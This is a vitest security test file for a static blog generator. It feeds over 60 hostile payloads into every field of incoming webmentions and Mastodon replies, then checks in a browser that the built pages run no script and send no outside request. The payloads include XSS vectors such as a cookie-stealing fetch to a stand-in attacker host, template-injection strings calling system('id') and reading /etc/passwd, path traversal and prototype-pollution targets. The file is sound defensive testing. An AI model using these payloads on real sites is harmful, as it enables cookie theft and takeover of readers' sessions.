import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { elementsOf, parseForeignHtml } from '../../src/html/foreign-html.js'
import { verifyEntry } from '../../src/webmention/html/verify-markup.js'
import { mastodon } from '../mastodon.js'
import { buildOf, filesIn, runCli, startCli, temporaryFolder, writeFiles } from '../support.js'
import { type Row, webmentionIo } from '../webmention-io.js'
import { describeWith, nuErrors, openBrowser, serve, xmlErrors } from './programs.js'

const steal = 'globalThis.pwned=1;fetch("//evil.invalid/"+document.cookie)'

/** What has been tried on those who show what others write. Each goes into every field of a mention. */
const payloads: readonly string[] = [
  `<script>${steal}</script>`,
  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
  `"><script>${steal}</script>`,
  `'><script>${steal}</script>`,
  `</title><script>${steal}</script>`,
  `</time></li></ol></section></article><script>${steal}</script>`,
  `<scr<script>ipt>${steal}</scr</script>ipt>`,
  `<img src=x onerror='${steal}'>`,
  `<img src=//evil.invalid/pixel.gif>`,
  `<img srcset="//evil.invalid/a 1x">`,
  `<svg onload='${steal}'>`,
  `<svg><script>${steal}</script></svg>`,
  `<svg><a xlink:href="javascript:${steal}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror='${steal}'>`,
  `<body onload='${steal}'>`,
  `<details open ontoggle='${steal}'>`,
  `<input autofocus onfocus='${steal}'>`,
  `<video><source onerror='${steal}'></video>`,
  `<marquee onstart='${steal}'>`,
  `" onmouseover="${steal}" x="`,
  `' onmouseover='${steal}' x='`,
  `\` onmouseover=\`${steal}\``,
  `javascript:${steal}`,
  `JaVaScRiPt:${steal}`,
  ` javascript:${steal}`,
  `java\tscript:${steal}`,
  `java\nscript:${steal}`,
  `\u0001javascript:${steal}`,
  `javascript&colon;${steal}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${steal}</script>`,
  `data:image/svg+xml,<svg onload='${steal}'/>`,
  `https://user:pass@evil.invalid/`,
  `//evil.invalid/`,
  `<iframe src="//evil.invalid/"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="//evil.invalid/x.swf"></object>`,
  `<embed src="//evil.invalid/x.swf">`,
  `<style>@import url(//evil.invalid/x.css); body{display:none}</style>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<p style="background:url(//evil.invalid/x)">x</p>`,
  `<form action="//evil.invalid/"><input name=password><button>Log in</button></form>`,
  `<meta http-equiv="refresh" content="0; url=//evil.invalid/">`,
  `<base href="//evil.invalid/">`,
  `<a href="https://evil.invalid/" rel="me webmention canonical authorization_endpoint">x</a>`,
  `<link rel="webmention" href="https://evil.invalid/wm">`,
  `<div class="h-entry"><a class="u-url u-uid" href="https://evil.invalid/">x</a><p class="p-name">Not yours</p></div>`,
  `</div></li></ol><a class="u-in-reply-to" href="https://evil.invalid/">x</a>`,
  `<p id="responses" name="source">x</p><a id=main name=main>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '{{ constructor.constructor("return process")() }} ${process.exit(1)} <%= system("id") %> {% include "/etc/passwd" %}',
  '**bold** [link](javascript:alert(1)) ![x](//evil.invalid/p.gif) <https://evil.invalid>',
  ':::note\n[[wiki]]\n:::',
  ']]><script>globalThis.pwned=1</script><![CDATA[',
  '<!-- --!><script>globalThis.pwned=1</script>',
  '<![CDATA[x]]><?php system("id") ?><!DOCTYPE x [<!ENTITY a "b">]>&a;&lt;script&gt;',
  '\u202eevil\u202c\u2066right\u2069\u200f\u061c to left',
  'a\u0000b\u0008c\u001bd\u007fe\u0085f\ufffeg\uffffh',
  '\ud800 lone \udfff surrogates \ud83d',
  'x'.repeat(60_000),
  `${'<b>'.repeat(5000)}deep${'</b>'.repeat(5000)}`,
  '<div>'.repeat(5000),
  '<a '.repeat(30_000),
  '&'.repeat(30_000),
  '<p>'.repeat(20_000),
  `${'‮'.repeat(500)}${'\u0301'.repeat(2000)}`,
  '👩‍👩‍👧‍👧'.repeat(500),
]

const fieldsOf = (payload: string): Partial<Row>[] => [
  { content: { html: payload } },
  { content: { text: payload } },
  {
    content: {
      html: `<p>before</p>${payload}<p>after <a href="https://blog.example/">x</a></p>`,
      text: payload,
    },
    property: 'mention-of',
  },
  { name: payload, property: 'mention-of' },
  { author: { name: payload, url: payload, photo: payload } },
  { author: { name: payload, url: payload, photo: payload }, property: 'like-of' },
  { url: payload, published: payload },
  { property: 'rsvp', rsvp: payload, author: { name: payload } },
]
const post = (index: number): string =>
  `---\ntitle: Post ${index}\ndate: 2026-05-01 10:00 Z\nsyndication: ${network.url}/statuses/${copies[index]}\n---\nMy own words.\n`

/** A server of Mastodon, where each payload is in every field of answers to a copy of a post. */
const network = await mastodon()
const copies = Array.from({ length: payloads.length + 1 }, (_, index) => {
  const copy = network.addStatus({ account: network.me.id, text: `Post ${index}` })
  const payload = payloads[index]
  if (payload === undefined) return copy.id
  const evil = network.addAccount({
    ...{ username: `evil${index}`, domain: 'evil.example', display_name: payload, url: payload },
    ...{ avatar: payload, avatar_static: payload, note: payload },
    emojis: [{ shortcode: 'evil', url: payload, static_url: payload }],
  })
  const fields = { account: evil.id, in_reply_to_id: copy.id }
  const reply = network.addStatus({ ...fields, content: payload, spoiler_text: payload, url: payload })
  network.addStatus({
    ...fields,
    in_reply_to_id: reply.id,
    text: payload,
    uri: `https://evil.example/${index}`,
  })
  network.like(copy.id, evil.id)
  return copy.id
})

/** The elements that our templates make. */
const ours =
  'html head meta title link body a header p nav ul ol li main article h1 h2 h3 br div footer span time section bdi data details summary form label input button'.split(
    ' ',
  )

const root = temporaryFolder()
const output = join(root, 'public')
beforeAll(async () => {
  const io = await webmentionIo()
  const target = (index: number): string => `https://blog.example/posts/p${index}/`
  for (const [index, payload] of payloads.entries())
    for (const [field, fields] of fieldsOf(payload).entries())
      io.rows.push({
        id: index * 100 + field + 1,
        source: `https://s${index}.example/${field}`,
        target: target(index),
        author: { name: `Somebody ${field}` },
        ...fields,
      })
  for (const [index, evil] of [
    'https://blog.example/__proto__/',
    'https://blog.example/../../../etc/passwd',
    'https://blog.example/constructor',
    'https://blog.example/%2e%2e/%2e%2e/x',
  ].entries())
    io.rows.push({ id: 90_000 + index, source: `https://t${index}.example/`, target: evil })
  for (let index = 0; index < 10_000; index++)
    io.rows.push({
      id: 100_000 + index,
      source: `https://crowd.example/${index}`,
      target: target(payloads.length),
      author: { name: `One of many ${index}`, url: `https://crowd.example/${index}` },
      content: { text: `Words ${index}` },
    })
  writeFiles(root, {
    'content/site.yaml': `url: https://blog.example/\ntitle: A blog\nauthor: { name: Ada }\nnetwork: { allow: ["${io.host}", "${network.host}"] }\nsyndicate: { kinds: [], mastodon: { server: "${network.url}" } }\nwebmention: { endpoint: "https://webmention.io/blog.example/webmention", api: "${io.api}", moderation: all }\n`,
    ...Object.fromEntries(
      Array.from({ length: payloads.length + 1 }, (_, index) => [`content/posts/p${index}.md`, post(index)]),
    ),
  })
  const pulled = await startCli(['mentions', 'pull', '--quiet', '--root', root], {
    env: { WEBMENTION_IO_TOKEN: 'right', MASTODON_TOKEN: 'right' },
  }).done
  expect(pulled).toMatchObject({ status: 0, stderr: '' })
  expect(runCli(['build', '--strict', '--root', root])).toMatchObject({ status: 0, stderr: '' })
}, 120_000)

test('answers of the network are on the pages, too', () => {
  const store = JSON.parse(readFileSync(join(root, 'content/mentions/posts/p0.json'), 'utf8')) as {
    mentions: { id: string; type: string }[]
  }
  expect(
    store.mentions
      .filter(({ id }) => id.startsWith('mastodon-'))
      .map(({ type }) => type)
      .sort(),
  ).toEqual(['like', 'reply', 'reply'])
})

test('there are at least 60', () => expect(payloads.length).toBeGreaterThanOrEqual(60))

test('nothing is written but the store and the site', () => {
  const stored = [...filesIn(join(root, 'content')).keys()].filter((path) => path.startsWith('mentions/'))
  expect(stored.filter((path) => !/^mentions\/(?:posts\/p\d+|unmatched)\.json$/.test(path))).toEqual([])
  expect(readFileSync(join(root, 'content/mentions/unmatched.json'), 'utf8')).toContain('__proto__')
})

test('no foreign markup is on a page', () => {
  for (const [path, bytes] of filesIn(output)) {
    const text = bytes.toString()
    if (!/^posts\/p\d+\//.test(path)) continue
    const elements = elementsOf(parseForeignHtml(text) ?? { type: 'root', children: [] })
    expect(elements.length, path).toBeGreaterThan(30)
    expect(
      [...new Set(elements.map(({ tagName }) => tagName))].filter((name) => !ours.includes(name)),
      path,
    ).toEqual([])
    const attributes = elements.flatMap(({ properties }) => Object.entries(properties))
    expect(
      attributes.filter(([name]) => /^(?:on|style|srcset)/i.test(name)),
      path,
    ).toEqual([])
    const links = attributes.filter(([name]) =>
      /^(?:href|src|action|formAction|cite|data|poster)$/.test(name),
    )
    expect(
      links.filter(([, value]) => !/^(?:https?:\/\/[^@]*|\/.*|#main)$/.test(String(value))),
      path,
    ).toEqual([])
    expect(text, path).not.toMatch(/(?!\n)[\p{Cc}\u202a-\u202e\u2066-\u2069\ufffe\uffff]/u)
    expect(text.match(/<article/g)?.length, path).toBe(1)
    if (!path.includes(`p${payloads.length}/`)) expect(bytes.length, path).toBeLessThan(60_000)
  }
})

test('readers find the h-entry as it was meant', async () => {
  const { site } = await buildOf(
    Object.fromEntries(payloads.map((_, index) => [`posts/p${index}.md`, post(index)])),
    '',
  )
  for (const entry of site.entries.filter(({ path }) => path.startsWith('posts/p')))
    expect(
      verifyEntry(entry, readFileSync(join(output, `${entry.path.slice(0, -3)}/index.html`), 'utf8'), site),
      entry.path,
    ).toEqual([])
})

describeWith('xmllint', 'xmllint', () => {
  test('finds the feeds well-formed', () => expect(xmlErrors(output)).toBe(''))
})

describeWith('java', 'the Nu HTML checker', () => {
  test('finds no error', { timeout: 120_000 }, () => expect(nuErrors(output)).toBe(''))
})

describeWith('chromium', 'in Chromium', () => {
  let close = (): void => undefined
  afterAll(() => close())

  test('no script runs, no request leaves the site, nothing moves the reader away', {
    timeout: 180_000,
  }, async () => {
    const browser = await openBrowser()
    const host = await serve(output)
    close = () => {
      host.close()
      void browser.close()
    }
    const page = await browser.newPage()
    const away: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(host.url)) away.push(request.url())
    })
    page.on('dialog', (dialog) => {
      away.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    for (let index = 0; index <= payloads.length; index++) {
      const url = `${host.url}/posts/p${index}/`
      await page.goto(url, { waitUntil: 'load' })
      for (const details of await page.locator('details').all())
        await details.evaluate((one) => one.setAttribute('open', ''))
      expect(await page.evaluate('globalThis.pwned'), payloads[index]).toBeUndefined()
      expect(page.url()).toBe(url)
      expect(await page.locator('.e-content').first().textContent()).toBe('My own words.')
      expect(
        await page.evaluate('document.documentElement.scrollWidth <= innerWidth'),
        payloads[index]?.slice(0, 80),
      ).toBe(true)
    }
    expect(away).toEqual([])
  })
})
